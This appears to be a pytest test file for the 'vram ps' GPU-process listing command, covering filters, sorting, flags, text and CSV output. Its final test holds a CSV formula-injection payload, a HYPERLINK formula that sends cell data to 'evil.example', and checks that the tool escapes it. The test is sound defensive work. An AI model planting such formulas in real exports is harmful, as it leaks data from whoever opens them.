"""`vram ps` on the demo server: one row per (process, GPU), filters, sorting, flags, text columns."""

from __future__ import annotations

import csv
import io
import re

import pytest
from helpers import assert_one_line_error, clean_env, expected_gpus, run_vram, scenario_data

from vramkit.units import parse_duration

DEMO = scenario_data("demo")
EXPECTED = expected_gpus(DEMO, t=0)
# (gpu, pid) -> the scenario's figures for that row
ROWS = {(g["index"], pid): {**p, "memory_total": g["memory_total"]}
        for g in EXPECTED for pid, p in g["processes"].items()}
SORT_KEYS = ("memory", "gpu", "pid", "user", "elapsed", "cpu", "rss")
PS_HEADER = ["GPU", "PID", "USER", "MEMORY", "%GPU", "SM%", "MBW%", "ENC%", "DEC%", "CPU%", "RSS", "ELAPSED", "FLAGS",
             "COMMAND"]


def ps(*args: str, **env: str):
    return run_vram("ps", "--simulate", "demo", *args, env=clean_env(**env))


@pytest.fixture(scope="module")
def rows():
    return ps("--json").json()["processes"]


def test_json_header(rows):
    snap = ps("--json").json()
    assert snap["simulated"] is True and snap["scenario"] == "demo"


def test_one_row_per_process_and_gpu(rows):
    assert sorted((r["gpu"], r["pid"]) for r in rows) == sorted(ROWS)
    assert len(rows) == len(ROWS)


def test_data_parallel_job_has_a_row_per_gpu(rows):
    bob = [r for r in rows if r["pid"] == 41234]
    assert sorted(r["gpu"] for r in bob) == [0, 1, 2, 3]
    assert len({r["command"] for r in bob}) == 1


@pytest.mark.parametrize("key", sorted(ROWS))
def test_row_fields(rows, key):
    row = next(r for r in rows if (r["gpu"], r["pid"]) == key)
    want = ROWS[key]
    assert row["memory"] == want["memory"]
    assert row["user"] == want["user"]
    assert row["command"] == want["command"]
    assert row["memory_percent"] == round(100 * want["memory"] / want["memory_total"], 1)
    assert row["gpu_uuid"] == EXPECTED[key[0]]["uuid"]
    assert row["gpu_utilization"] == EXPECTED[key[0]]["utilization"]


def test_host_side_of_synthetic_processes(rows):
    by_pid = {p["pid"]: p for p in DEMO["processes"]}
    for row in rows:
        spec = by_pid[row["pid"]]
        assert row["uid"] == spec["uid"]
        assert row["ppid"] == spec["ppid"]
        assert row["state"] == spec.get("state", "running")
        assert row["cpu_percent"] == pytest.approx(spec["cpu_percent"], abs=0.1)


def test_zombie_flag(rows):
    carol = next(r for r in rows if r["pid"] == 29044)
    assert carol["zombie"] is True and carol["state"] == "zombie"
    assert carol["orphaned"] is True  # its parent is pid 1
    assert not any(r["zombie"] for r in rows if r["pid"] != 29044)


def test_idle_flag(rows):
    alice = next(r for r in rows if r["pid"] == 38817)
    assert alice["idle"] is True and alice["gpu_utilization"] == 0
    assert [r["pid"] for r in rows if r["idle"]] == [38817]


@pytest.mark.parametrize("users", ["alice", "bob", "carol", "alice,bob", " erin , dave "])
def test_user_filter(users):
    wanted = {u.strip() for u in users.split(",")}
    got = ps("--json", "--user", users).json()["processes"]
    assert sorted((r["gpu"], r["pid"]) for r in got) == sorted(k for k, v in ROWS.items() if v["user"] in wanted)


def test_user_with_no_processes():
    result = ps("--user", "nobody-here")
    assert result.rc == 0
    assert "no GPU processes" in result.out
    assert ps("--json", "--user", "nobody-here").json()["processes"] == []


@pytest.mark.parametrize("spec, gpus", [("0", {0}), ("5", {5}), ("0,5", {0, 5}), ("1-3", {1, 2, 3})])
def test_gpu_filter(spec, gpus):
    got = ps("--json", "--gpu", spec).json()["processes"]
    assert sorted((r["gpu"], r["pid"]) for r in got) == sorted(k for k in ROWS if k[0] in gpus)


def test_user_and_gpu_filters_combine():
    got = ps("--json", "--user", "bob", "--gpu", "2-7").json()["processes"]
    assert sorted((r["gpu"], r["pid"]) for r in got) == [(2, 41234), (3, 41234)]


def test_gpu_that_does_not_exist():
    assert_one_line_error(ps("--gpu", "9"), 2, "no GPU 9")


def _sort_value(row: dict, key: str):
    return {"memory": -row["memory"], "gpu": row["gpu"], "pid": row["pid"], "user": row["user"],
            "elapsed": -row["elapsed"], "cpu": -row["cpu_percent"], "rss": -row["rss"]}[key]


@pytest.mark.parametrize("key", SORT_KEYS)
def test_sort(key):
    got = ps("--json", "--sort", key).json()["processes"]
    assert len(got) == len(ROWS)
    values = [_sort_value(r, key) for r in got]
    assert values == sorted(values), f"--sort {key}"


def test_default_sort_is_memory_largest_first(rows):
    assert [r["memory"] for r in rows] == sorted((r["memory"] for r in rows), reverse=True)


def test_sort_by_pid_then_gpu():
    got = ps("--json", "--sort", "pid").json()["processes"]
    assert [(r["pid"], r["gpu"]) for r in got] == sorted((pid, gpu) for gpu, pid in ROWS)


def test_unknown_sort_key():
    line = assert_one_line_error(ps("--sort", "colour"), 2, "--sort", "colour")
    for key in SORT_KEYS:
        assert key in line


# ---------------------------------------------------------------- text and CSV

@pytest.fixture(scope="module")
def text():
    result = ps(COLUMNS="250")
    assert result.rc == 0 and result.err == ""
    return result.out


def _table(text: str) -> tuple[list[str], list[list[str]]]:
    lines = text.splitlines()
    assert "SIMULATED" in lines[0]
    header = lines[1].split()
    return header, [line.split(None, len(PS_HEADER) - 1) for line in lines[2:]]


def test_text_columns(text):
    header, table = _table(text)
    assert header == PS_HEADER
    assert len(table) == len(ROWS)
    for cells in table:
        assert len(cells) == len(PS_HEADER)
        row = dict(zip(PS_HEADER, cells))
        want = ROWS[(int(row["GPU"]), int(row["PID"]))]
        assert row["USER"] == want["user"]
        assert row["COMMAND"] == want["command"]
        assert row["%GPU"] == f"{100 * want['memory'] / want['memory_total']:.0f}%"
        assert re.fullmatch(r"[\d.]+(GiB|MiB)", row["MEMORY"])


def test_text_flags_column(text):
    _, table = _table(text)
    flags = {int(cells[1]): cells[PS_HEADER.index("FLAGS")] for cells in table}
    assert flags[29044] == "zombie,orphan"
    assert flags[38817] == "idle"
    assert flags[60112] == "-"


def test_text_is_clipped_to_the_terminal_width():
    result = ps(COLUMNS="100")
    for line in result.out.splitlines()[1:]:
        assert len(line) <= 100, line


def test_csv():
    result = ps("--csv")
    assert result.rc == 0
    assert result.out.splitlines()[0] == ("gpu,pid,user,memory,memory_percent,gpu_utilization,sm_utilization,"
                                          "memory_utilization,encoder_utilization,decoder_utilization,cpu_percent,"
                                          "rss,elapsed,state,container,container_name,pod,namespace,pod_container,"
                                          "slurm_job,slurm_step,command,time")
    got = list(csv.DictReader(io.StringIO(result.out)))
    assert sorted((int(r["gpu"]), int(r["pid"])) for r in got) == sorted(ROWS)
    for r in got:
        want = ROWS[(int(r["gpu"]), int(r["pid"]))]
        assert int(r["memory"]) == want["memory"] and r["command"] == want["command"]
        assert r["container"] == "N/A"


def test_elapsed_is_the_scenario_age_at_t0(rows):
    ages = {p["pid"]: parse_duration(p["age"]) for p in DEMO["processes"]}
    for row in rows:
        assert row["elapsed"] == pytest.approx(ages[row["pid"]], abs=0.1)


def test_processes_age_on_the_scenario_clock():
    """At t=30 erin's eval.py (start_at 20, age 0s) has run 10 s, at its declared CPU%."""
    got = {r["pid"]: r for r in ps("--json", "--user", "erin", VRAM_SIM_TIME="30").json()["processes"]}
    late = next(p for p in DEMO["processes"] if "start_at" in p)
    steady = next(p for p in DEMO["processes"] if p["user"] == "erin" and "start_at" not in p)
    assert got[late["pid"]]["elapsed"] == pytest.approx(30 - late["start_at"] + parse_duration(late["age"]), abs=0.1)
    assert got[late["pid"]]["cpu_percent"] == pytest.approx(late["cpu_percent"], abs=0.1)
    assert got[steady["pid"]]["elapsed"] == pytest.approx(parse_duration(steady["age"]) + 30, abs=0.1)


# ---------------------------------------------------------------- issue 14: --wide, GPU filter, unknown processes

BOB = "python train_dp.py --model resnet152 --batch-size 1024 --data /data/imagenet"


def test_piped_output_cuts_the_command_and_wide_never_does():
    assert BOB not in ps("--gpu", "0").out  # piped, $COLUMNS unset: 120 columns
    for env in ({}, {"COLUMNS": "60"}):
        out = ps("--gpu", "0", "--wide", **env).out
        assert BOB in out and "…" not in out


def test_help_says_what_width_piped_output_uses():
    text = " ".join(run_vram("ps", "--help", env=clean_env()).out.split())
    assert "--wide" in text and "$COLUMNS, or 120 columns" in text


def test_gpu_filter_banner_agrees_with_status():
    assert "  ·  2 of 8 GPUs" in ps("--gpu", "0,1").out
    status = run_vram("status", "--simulate", "demo", "--gpu", "0,1", env=clean_env()).out
    assert "  ·  2 of 8 GPUs" in status
    assert "  ·  8 GPUs  ·  " in ps().out.splitlines()[0]


def test_processes_the_driver_cannot_list_are_unknown_not_none(write_scenario):
    path = str(write_scenario({"gpus": [
        {"name": "NVIDIA A100-SXM4-80GB", "memory_total": "80GiB", "no_permission": ["processes"]},
        {"name": "NVIDIA A100-SXM4-80GB", "memory_total": "80GiB"}]}))
    out = run_vram("ps", "--simulate", path, env=clean_env()).out
    assert "GPU 0: processes unknown (no permission)" in out
    assert "no GPU processes on the other GPUs" in out
    only = run_vram("ps", "--simulate", path, "--gpu", "0", env=clean_env()).out
    assert "GPU 0: processes unknown (no permission)" in only and "no GPU processes" not in only
    known = run_vram("ps", "--simulate", path, "--gpu", "1", env=clean_env()).out
    assert "no GPU processes" in known and "unknown" not in known


def test_csv_quotes_a_text_a_spreadsheet_would_run_as_a_formula(write_scenario):
    # Another user's command line (or name) that starts a formula: '=HYPERLINK(...)' in a CSV an admin
    # opens. It starts with ' there (OWASP's advice); the JSON keeps it as it is. Numbers are numbers.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    data = {"name": "formulas", "gpus": [{"memory_total": "80GiB", "utilization": 10}],
            "processes": [{"pid": 700, "user": "@eve", "command": formula, "gpus": {"0": "1GiB"}},
                          {"pid": 701, "user": "bob", "command": "-bash", "gpus": {"0": "2GiB"}},
                          {"pid": 702, "user": "carol", "command": "python train.py", "gpus": {"0": "3GiB"}}]}
    path = str(write_scenario(data))
    rows = {int(r["pid"]): r for r in csv.DictReader(io.StringIO(run_vram("ps", "--simulate", path, "--csv").out))}
    assert rows[700]["command"] == "'" + formula and rows[700]["user"] == "'@eve"
    assert rows[701]["command"] == "'-bash" and rows[702]["command"] == "python train.py"
    assert rows[702]["memory"] == str(3 * 2**30)
    shown = {p["pid"]: p for p in run_vram("ps", "--simulate", path, "--json").json()["processes"]}
    assert shown[700]["command"] == formula and shown[700]["user"] == "@eve"
